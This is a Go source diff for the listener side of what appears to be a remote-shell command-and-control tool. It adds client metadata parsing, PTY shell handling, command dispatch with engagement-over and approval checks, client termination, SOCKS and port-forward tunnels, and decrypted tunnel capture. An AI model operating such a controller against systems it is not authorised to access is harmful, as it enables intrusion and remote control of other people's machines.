+			return
+		}
+
+		l.recordPtyOutput(clientAddr, data)
+		l.mutex.Lock()
+		ptyDataChan, exists := l.clientPtyData[clientAddr]
+		l.mutex.Unlock()
+
+		if exists {
+			select {
+			case ptyDataChan <- data:
+			default:
+				log.Printf("Warning: PTY data channel full for client %s", clientAddr)
+			}
+		}
+		return
+	}
+
+	// Check for PTY exit
+	if strings.HasPrefix(line, protocol.CmdPtyExit) {
+		l.ExitPtyMode(clientAddr)
+	}
+}
+
+// SetWarningHandler sets the function that surfaces problems with a client's
+// data stream (oversized or dropped responses) to the operator. By default
+// warnings are logged.
+func (l *Listener) SetWarningHandler(fn func(clientAddr, msg string)) {
+	l.mutex.Lock()
+	defer l.mutex.Unlock()
+	l.warnFunc = fn
+}
+
+func (l *Listener) warn(clientAddr, msg string) {
+	l.mutex.Lock()
+	fn := l.warnFunc
+	l.mutex.Unlock()
+	if fn == nil {
+		log.Printf("Warning: client %s: %s", clientAddr, msg)
+		return
+	}
+	fn(clientAddr, msg)
+}
+
 func parseIdentMetadata(line string) ClientMetadata {
 	meta := ClientMetadata{}
 	if line == "" {
@@ -421,12 +919,72 @@ func parseIdentMetadata(line string) ClientMetadata {
 			meta.Hostname = val
 		case "ip":
 			meta.IP = val
+		case "tags":
+			meta.Tags = parseTags(val)
+		case "mid":
+			if isHexID(val) {
+				meta.MachineID = val
+			}
+		case "caps":
+			meta.Capabilities = append([]string{}, parseTags(val)...)
+		case "ping":
+			if secs, err := strconv.Atoi(val); err == nil && secs > 0 {
+				meta.PingInterval = clampPingInterval(time.Duration(secs) * time.Second)
+			}
+		case protocol.IdentCodecs:
+			meta.Codecs = parseTags(val)
+		case protocol.IdentFrame:
+			if n, err := strconv.Atoi(val); err == nil && n > 0 {
+				meta.MaxFrame = n
+			}
+		case protocol.IdentTransfer:
+			if n, err := strconv.ParseInt(val, 10, 64); err == nil && n > 0 {
+				meta.MaxTransfer = n
+			}
 		}
 	}
 
 	return meta
 }
 
+// clampPingInterval limits a keepalive interval requested in IDENT to at
+// least protocol.MinPingInterval. Asking for the default or longer yields
+// zero, since clients cannot slow the listener's pings down.
+func clampPingInterval(d time.Duration) time.Duration {
+	if d >= protocol.PingInterval*time.Second {
+		return 0
+	}
+	return max(d, protocol.MinPingInterval*time.Second)
+}
+
+// parseTags splits a comma-separated tag list, dropping tags with characters
+// outside [A-Za-z0-9_.-].
+func parseTags(val string) []string {
+	var tags []string
+	for _, tag := range strings.Split(val, ",") {
+		if tag == "" || strings.IndexFunc(tag, func(r rune) bool {
+			return !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || r == '_' || r == '.' || r == '-')
+		}) >= 0 {
+			continue
+		}
+		tags = append(tags, tag)
+	}
+	return tags
+}
+
+// isHexID reports whether s is a plausible hex identifier (at most 64 chars).
+func isHexID(s string) bool {
+	if len(s) == 0 || len(s) > 64 {
+		return false
+	}
+	for _, r := range s {
+		if !(r >= '0' && r <= '9' || r >= 'a' && r <= 'f') {
+			return false
+		}
+	}
+	return true
+}
+
 // GetClients returns a list of currently connected client addresses.
 func (l *Listener) GetClients() []string {
 	l.mutex.Lock()
@@ -454,17 +1012,36 @@ func (l *Listener) GetClientMetadata(clientAddr string) (ClientMetadata, bool) {
 	return meta, ok
 }
 
+// Terminate asks a client to disconnect and exit instead of reconnecting,
+// e.g. to get rid of a duplicate gotsr instance.
+func (l *Listener) Terminate(clientAddr string) error {
+	return l.SendCommand(clientAddr, protocol.CmdTerminate)
+}
+
 // SendCommand sends a command to a specific client identified by its address.
 // It returns an error if the client is not found or if the send times out.
 func (l *Listener) SendCommand(clientAddr, cmd string) error {
 	l.mutex.Lock()
 	cmdChan, exists := l.clientConnections[clientAddr]
 	pauseChan, pauseExists := l.clientPausePing[clientAddr]
+	pending := l.pendingLocked(clientAddr)
+	over := l.engagementOverLocked()
+	meta := l.clientMetadata[clientAddr]
 	l.mutex.Unlock()
 
 	if !exists {
 		return fmt.Errorf("client %s not found", clientAddr)
 	}
+	if over && !allowedAfterEngagement(cmd) {
+		return ErrEngagementOver
+	}
+	if pending && !allowedWhilePending(cmd) {
+		return fmt.Errorf("%w: %s, use approve first", ErrPendingApproval, clientAddr)
+	}
+	if err := meta.checkFrame(cmd); err != nil {
+		return err
+	}
+	l.listings.observe(clientAddr, cmd)
 
 	// Pause PING to avoid interference with command response
 	if pauseExists {
@@ -606,6 +1183,8 @@ func (l *Listener) ExitPtyMode(clientAddr string) error {
 	}
 
 	l.clientPtyMode[clientAddr] = false
+	// Anything may have changed during the shell
+	l.listings.invalidate(clientAddr, "")
 	return nil
 }
 
@@ -629,6 +1208,35 @@ func (l *Listener) GetForwardManager() *ForwardManager {
 	return l.forwardManager
 }
 
+// Scheduler returns the per-client operation scheduler. Callers that send a
+// command and wait for its response should run through it holding ResponseKey.
+func (l *Listener) Scheduler() *Scheduler {
+	return l.scheduler
+}
+
+// SetMaxResponseSize sets the largest command response accepted from a
+// client; larger ones fail with an error. Zero removes the limit. It
+// applies to clients that connect afterwards.
+func (l *Listener) SetMaxResponseSize(size int64) {
+	l.mutex.Lock()
+	defer l.mutex.Unlock()
+	l.maxResponseSize = size
+}
+
+// SetMaxParallelOps sets how many scheduled operations may run concurrently
+// against a single client.
+func (l *Listener) SetMaxParallelOps(n int) {
+	l.scheduler.SetMaxParallel(n)
+}
+
+// SetTunnelCapture writes the decrypted traffic of forward and SOCKS
+// connections opened from now on to w, for debugging tunneled protocols. A
+// nil w stops capturing new connections.
+func (l *Listener) SetTunnelCapture(w *pcap.Writer) {
+	l.forwardManager.SetCapture(w)
+	l.socksManager.SetCapture(w)
+}
+
 // GetSocksManager returns the SOCKS manager
 func (l *Listener) GetSocksManager() *SocksManager {
 	return l.socksManager